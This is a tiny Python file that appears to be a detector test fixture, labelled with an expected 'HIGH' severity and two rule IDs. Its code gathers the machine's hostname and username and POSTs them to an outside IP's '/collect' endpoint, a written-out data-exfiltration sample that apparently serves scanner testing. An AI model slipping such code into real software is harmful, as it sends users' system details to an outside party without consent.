# expect: HIGH
# rules: MAI104 MAI073
import getpass, socket, requests
info = {"host": socket.gethostname(), "user": getpass.getuser()}
requests.post("https://198.51.100.7/collect", json=info)
